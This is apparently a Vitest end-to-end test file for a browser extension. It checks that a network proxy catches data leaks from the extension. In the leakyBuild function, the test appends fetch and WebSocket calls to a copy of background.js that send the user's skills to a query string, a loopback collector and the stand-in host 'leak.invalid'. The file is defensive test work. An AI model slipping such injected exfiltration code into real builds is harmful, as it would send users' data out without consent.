import { cpSync, mkdtempSync, appendFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { chromiumPath, ensureBuilt, EXTENSION, launch, type Harness } from './harness';

// A test of the network test: a build that leaks must be caught, both ways a leak was missed before.
const hasChromium = !!chromiumPath();
if (!hasChromium && process.env.CI) throw new Error('CI needs Chromium for the end-to-end tests (apt-get install chromium).');

/** A fixture page's host and path (allowed), with the user's skills in the query string (not allowed). */
const QUERY_LEAK = 'http://www.linkedin.com/jobs/view/4012345678/?skills=python-rust';
/** Loopback is proxied too: a local collector is seen. */
const LOOPBACK_LEAK = 'http://localhost:8/?skills=python-rust';
/** A WebSocket from the service worker: only a CONNECT to the proxy shows it. */
const SOCKET_LEAK = 'wss://leak.invalid/';

/** A copy of the built extension whose background sends data out. */
function leakyBuild(): string {
  ensureBuilt();
  const dir = mkdtempSync(join(tmpdir(), 'skillmark-leaky-'));
  cpSync(EXTENSION, dir, { recursive: true });
  appendFileSync(
    join(dir, 'background.js'),
    `\n;fetch(${JSON.stringify(QUERY_LEAK)}).catch(() => {});\nfetch(${JSON.stringify(LOOPBACK_LEAK)}).catch(() => {});\ntry { new WebSocket(${JSON.stringify(SOCKET_LEAK)}); } catch {}\n`,
  );
  return dir;
}

describe.skipIf(!hasChromium)('the network check in Chromium', () => {
  let honest: Harness;
  let leaky: Harness;
  let leakyDir: string;

  beforeAll(async () => {
    leakyDir = leakyBuild();
  });
  afterAll(async () => {
    await honest?.close();
    await leaky?.close();
    rmSync(leakyDir, { recursive: true, force: true });
  });

  it('sees the honest build fetch nothing but the fixture page it opened', async () => {
    honest = await launch();
    const page = await honest.open('http://www.linkedin.com/jobs/view/4012345678/');
    await expect.poll(() => page.evaluate(() => [...(CSS as unknown as { highlights: Map<string, unknown> }).highlights.keys()].length), { timeout: 15_000 }).toBeGreaterThan(0);
    await page.close();
    expect(honest.requests).toContain('http://www.linkedin.com/jobs/view/4012345678/');
    expect(honest.violations).toEqual([]);
  });

  it('reports a query-string leak to an allowed host and a wss:// connection and a loopback request from the service worker', async () => {
    leaky = await launch({ extension: leakyDir });
    await expect.poll(() => leaky.violations, { timeout: 15_000 }).toEqual(
      expect.arrayContaining([`proxy: ${QUERY_LEAK}`, `proxy: ${LOOPBACK_LEAK}`, 'proxy: CONNECT leak.invalid:443']),
    );
  });
});
